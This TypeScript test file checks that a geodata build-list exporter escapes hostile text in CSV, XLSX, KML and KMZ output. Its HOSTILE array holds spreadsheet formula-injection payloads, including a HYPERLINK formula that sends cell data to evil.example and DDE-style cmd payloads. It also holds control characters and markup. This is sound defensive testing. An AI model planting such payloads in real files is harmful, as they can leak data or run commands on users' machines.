import { DOMParser } from '@xmldom/xmldom';
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { buildListRows, type BuildListRow } from '../../../core/buildList';
import { BUILD_LIST_FORMATS, csvField, exportBuildList, exportImportProblemsCsv, neutraliseFormula, xmlEscape, xmlSafeText } from '../../../geodata/export';
import { parseCsv } from '../../../geodata/text';
import { smallProject } from '../project/smallProject';

/** Text a planner's sheet may carry into a build list: formulas, control characters, a lone surrogate, markup. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1',
  '站\x01名\x0b有\x1f控制符', 'half \ud83d surrogate', 'A&B <tag attr="x"> \'q\'', '-41', '+86',
];

function hostileRows(): BuildListRow[] {
  const base = buildListRows(smallProject(), { countyName: { zh: '仁怀市', en: 'Renhuai' } });
  return HOSTILE.map((name, i) => ({ ...base[0], id: `H${i}`, name, township: name, placesServed: [name] }));
}

/** Parses XML strictly: any error or fatal error (not-well-formed) throws. */
function parseStrict(xml: string, what: string): Document {
  return new DOMParser({
    onError: (level, message) => {
      if (level !== 'warning') throw new Error(`${what}: ${level}: ${message}`);
    },
  }).parseFromString(xml, 'text/xml') as unknown as Document;
}

describe('exports of hostile text', () => {
  it('neutraliseFormula and csvField follow the OWASP CSV-injection guidance; numbers stay numbers', () => {
    expect(['=1+2', '+1+2', '-1+2', '@A1', '\tx', '\rx'].map(neutraliseFormula)).toEqual(["'=1+2", "'+1+2", "'-1+2", "'@A1", "'\tx", "'\rx"]);
    expect(['-41', '+86', '-1.5e3', 'a=b', '站名'].map(neutraliseFormula)).toEqual(['-41', '+86', '-1.5e3', 'a=b', '站名']);
    expect(csvField(-41)).toBe('-41');
    expect(csvField('=a,"b"')).toBe('"\'=a,""b"""');
  });

  it('CSV: every text cell starting with = + - @, a tab or a CR is prefixed with an apostrophe; plain numbers are not', async () => {
    const rows = hostileRows();
    const text = new TextDecoder().decode(await exportBuildList(rows, 'csv'));
    const table = parseCsv(text.replace(/^\uFEFF/, ''));
    const nameAt = table.header.indexOf('名称');
    const names = table.rows.map((r) => r[nameAt]);
    for (const [i, name] of names.entries()) {
      expect(/^[=+\-@\t\r]/.test(name) ? name : '').toMatch(/^(-41|\+86|)$/);
      // a lone surrogate cannot be UTF-8: the encoder writes U+FFFD for it
      expect(name.replace(/^'/, '')).toBe(new TextDecoder().decode(new TextEncoder().encode(HOSTILE[i])));
    }
    // every cell of every column (township, places) is protected too
    const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
    for (const row of table.rows) for (const cell of row) expect(live(cell) ? cell : '').toBe('');
    const problems = new TextDecoder().decode(exportImportProblemsCsv([{ file: '=cmd|x.csv', row: 1, field: '@f', reason: '+bad', severity: 'error' }]));
    expect(problems).toContain("'=cmd|x.csv,1,'@f,'+bad");
  });

  it('XLSX: hostile text is stored as text, never a formula, and every XML part parses strictly', async () => {
    const bytes = await exportBuildList(hostileRows(), 'xlsx', { title: '=标题\x02' });
    for (const [name, data] of Object.entries(unzipSync(bytes))) {
      if (!/\.(xml|rels)$/.test(name)) continue;
      const doc = parseStrict(strFromU8(data), name);
      if (/worksheets\/sheet\d+\.xml$/.test(name)) expect(doc.getElementsByTagName('f').length).toBe(0);
    }
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes.slice().buffer as never);
    const list = wb.worksheets[0];
    const nameCol = (list.getRow(1).values as unknown[]).indexOf('名称');
    const names = HOSTILE.map((_, i) => list.getRow(i + 2).getCell(nameCol).value);
    // exceljs writes a carriage return as is, so XML end-of-line handling gives it back as a line feed
    expect(names).toEqual(HOSTILE.map((h) => xmlSafeText(h).replace(/\r/g, '\n')));
    expect(names.every((v) => typeof v === 'string')).toBe(true);
  });

  it('KML and KMZ: characters XML 1.0 forbids are dropped and every file parses strictly; text arrives as written', async () => {
    const rows = hostileRows();
    for (const format of ['kml', 'kmz'] as const) {
      const bytes = await exportBuildList(rows, format);
      const xml = format === 'kml' ? strFromU8(bytes) : strFromU8(unzipSync(bytes)['doc.kml']);
      const doc = parseStrict(xml, format);
      const names = Array.from(doc.getElementsByTagName('Placemark'), (p) => p.getElementsByTagName('name')[0].textContent);
      expect(names).toEqual(HOSTILE.map(xmlSafeText));
    }
    expect(xmlSafeText('站\x01\x0b\x1f名\t\n\r')).toBe('站名\t\n\r');
    expect(xmlSafeText('\ud83d\ude00 \udc00')).toBe('\ud83d\ude00 \ufffd');
    expect(xmlEscape('A&B <\x0b>"\'\r')).toBe('A&amp;B &lt;&gt;&quot;&apos;&#13;');
  });

  it('every export format takes the hostile rows', async () => {
    for (const format of BUILD_LIST_FORMATS) expect((await exportBuildList(hostileRows(), format)).length).toBeGreaterThan(100);
  });
});
